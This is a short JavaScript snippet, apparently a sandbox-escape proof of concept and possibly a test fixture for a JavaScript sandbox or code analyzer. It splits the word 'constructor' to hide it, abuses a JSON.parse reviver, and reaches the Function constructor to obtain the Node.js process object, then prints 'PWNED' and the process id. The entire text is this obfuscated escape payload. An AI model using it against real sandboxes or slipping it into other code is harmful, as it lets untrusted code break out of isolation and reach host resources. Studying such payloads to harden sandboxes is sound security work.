const w = ['con', 'structor'].join('');
const t = { go: (f) => f[w] };
t.go({});
const fn = (x) => x;
const o = JSON.parse('{"a":1}', (k, v) => (k === 'a' ? t : v));
console.log('PWNED', o.a.go(fn)('return process')().pid);
